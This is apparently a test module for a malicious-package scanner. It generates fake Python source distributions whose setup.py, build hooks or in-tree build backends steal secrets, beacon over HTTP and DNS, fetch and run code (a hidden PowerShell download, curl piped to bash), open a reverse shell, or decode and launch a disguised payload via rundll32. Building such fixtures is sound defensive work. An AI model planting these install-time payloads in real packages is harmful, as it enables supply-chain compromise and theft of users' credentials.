"""Campaigns that act while a source distribution is installed or built."""
# ruff: noqa: E501 - the lines of other people's code are as long as they are

from tests.campaigns.disguises import DISGUISES
from tests.campaigns.forge import Built, Shapes, sdist
from tests.campaigns.payloads import BEACON, FETCHERS, SENDERS, SHELL, STEALER, dropper, fetch_and_run, secrets

__all__ = ["AT_INSTALL"]

AT_INSTALL = Shapes()
PLAIN = """\
from setuptools import find_packages, setup

setup(name="{name}", version="1.2.0", packages=find_packages())
"""
HOOKED = """\
from setuptools import find_packages, setup
from setuptools.command.{base} import {base}


{helpers}

class PostInstall({base}):
    def run(self):
        {base}.run(self)
        {call}


setup(name="{name}", version="1.2.0", packages=find_packages(), cmdclass={{"{base}": PostInstall}})
"""
MODULE = """\
\"\"\"A small library.\"\"\"


def greet(name: str) -> str:
    \"\"\"A greeting.\"\"\"
    return f"Hello, {name}"
"""


def at_top(name: str, payload: str, **fields: str) -> Built:
    """setup.py that acts before it calls ``setup``."""
    return sdist(name, {"setup.py": payload + "\n" + PLAIN.format(name=name), f"{name}/__init__.py": MODULE}, **fields)


def hooked(name: str, payload: str, base: str = "install") -> Built:
    """setup.py whose command acts."""
    body = "def _finish():\n" + "".join(f"    {line}\n" for line in payload.splitlines())
    setup = HOOKED.format(base=base, helpers=body, call="_finish()", name=name)
    return sdist(name, {"setup.py": setup, f"{name}/__init__.py": MODULE})


for library in SENDERS:
    AT_INSTALL.add(
        f"setup-top-secrets-{library}",
        f"setup.py reads secrets and sends them by {library}",
        lambda library=library: at_top("tablekit", secrets(library)),
    )
    AT_INSTALL.add(
        f"setup-hook-beacon-{library}",
        f"An install command sends host, user and folder by {library}",
        lambda library=library: hooked("internal_forms", BEACON + SENDERS[library]),
    )
for library in FETCHERS:
    AT_INSTALL.add(
        f"setup-hook-fetches-{library}",
        f"A develop command runs the text that it fetches by {library}",
        lambda library=library: hooked("pagerlib", fetch_and_run(library), "develop"),
    )
    AT_INSTALL.add(
        f"setup-top-drops-{library}",
        f"setup.py fetches a program by {library} and starts it unseen",
        lambda library=library: at_top("imgtools2", dropper(library, windows=library in ("requests", "httpx"))),
    )
for disguise in DISGUISES:
    AT_INSTALL.add(
        f"setup-hides-{disguise}",
        f"setup.py hides a dropper by {disguise}",
        lambda disguise=disguise: at_top("fastgrid", DISGUISES[disguise](dropper("requests", windows=True))),
    )


@AT_INSTALL
def setup_powershell_fetches_exe() -> Built:
    """setup.py starts a hidden PowerShell that fetches a program"""
    return at_top(
        "httpsliblite",
        """\
import subprocess
subprocess.Popen(['powershell', '-WindowStyle', 'Hidden', '-Command',
    "Invoke-WebRequest -Uri 'https://files.example.invalid/u.exe' -OutFile $env:TEMP\\\\u.exe; Start-Process $env:TEMP\\\\u.exe"], creationflags=0x08000000)
""",
    )


@AT_INSTALL
def setup_curl_pipe_shell() -> Built:
    """egg_info pipes a fetched script into a shell"""
    return hooked("quickmesh", "import os\nos.system('curl -fsSL https://get.example.invalid/i.sh | bash')", "egg_info")


@AT_INSTALL
def setup_reverse_shell() -> Built:
    """build_py opens a shell to a bare address"""
    return hooked("routekit", SHELL, "build_py")


@AT_INSTALL
def setup_stealer_in_module_imported() -> Built:
    """setup.py imports a module of its own that steals browsers' logins"""
    return sdist(
        "pyfastlog",
        {
            "setup.py": "from pyfastlog import core\ncore.init()\n" + PLAIN.format(name="pyfastlog"),
            "pyfastlog/__init__.py": MODULE,
            "pyfastlog/core.py": "def init():\n"
            + "".join(f"    {line}\n" for line in (STEALER + SENDERS["requests"]).splitlines()),
        },
    )


@AT_INSTALL
def in_tree_backend_acts() -> Built:
    """A PEP 517 backend inside the tree runs what it fetches, then hands over to setuptools"""
    return sdist(
        "yamlshape",
        {
            "pyproject.toml": """\
[build-system]
requires = ["setuptools"]
build-backend = "builder"
backend-path = ["_tools"]

[project]
name = "yamlshape"
version = "1.2.0"
""",
            "_tools/builder.py": """\
from setuptools.build_meta import *  # noqa
from setuptools import build_meta as _orig


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
"""
            + "".join(f"    {line}\n" for line in fetch_and_run("urllib").splitlines())
            + "    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)\n",
            "yamlshape/__init__.py": MODULE,
        },
    )


@AT_INSTALL
def hatch_build_hook_acts() -> Built:
    """A hatch build hook sends secrets"""
    body = "".join(f"        {line}\n" for line in secrets("httpx").splitlines())
    return sdist(
        "specview",
        {
            "pyproject.toml": """\
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "specview"
version = "1.2.0"

[tool.hatch.build.hooks.custom]
""",
            "hatch_build.py": """\
from hatchling.builders.hooks.plugin.interface import BuildHookInterface


class CustomBuildHook(BuildHookInterface):
    def initialize(self, version, build_data):
"""
            + body,
            "specview/__init__.py": MODULE,
        },
    )


@AT_INSTALL
def dependency_confusion_beacon() -> Built:
    """An internal-looking name in a version that outbids, which reports where it was installed"""
    return sdist(
        "acme-billing-core",
        {"setup.py": BEACON + SENDERS["urllib"] + PLAIN.format(name="acme-billing-core")},
        version="99.7.1",
        Summary="",
        description="",
        Author="",
        Author_email="",
        Home_page="",
    )


@AT_INSTALL
def dns_beacon() -> Built:
    """An install command puts host and user into a name that it looks up"""
    return hooked(
        "acme_telemetry",
        """\
import socket, getpass, binascii
tag = binascii.hexlify((socket.gethostname() + '|' + getpass.getuser()).encode()).decode()
socket.gethostbyname(tag[:60] + '.c.example.invalid')""",
    )


@AT_INSTALL
def data_file_decrypted_in_setup() -> Built:
    """setup.py decodes a picture of its own by XOR and starts it with rundll32"""
    blob = bytes(b ^ 0x5C for b in b"inert bytes of no library at all " * 300)
    return sdist(
        "cryptoenvlite",
        {
            "setup.py": """\
import os, subprocess
data = bytes(b ^ 0x5C for b in open(os.path.join(os.path.dirname(__file__), 'tests/logo.png'), 'rb').read())
path = os.path.join(os.environ['APPDATA'], 'IconCache.db')
open(path, 'wb').write(data)
subprocess.Popen('rundll32 ' + path + ',CalculateSum', shell=True)
"""
            + PLAIN.format(name="cryptoenvlite"),
            "tests/logo.png": blob,
            "cryptoenvlite/__init__.py": MODULE,
        },
    )
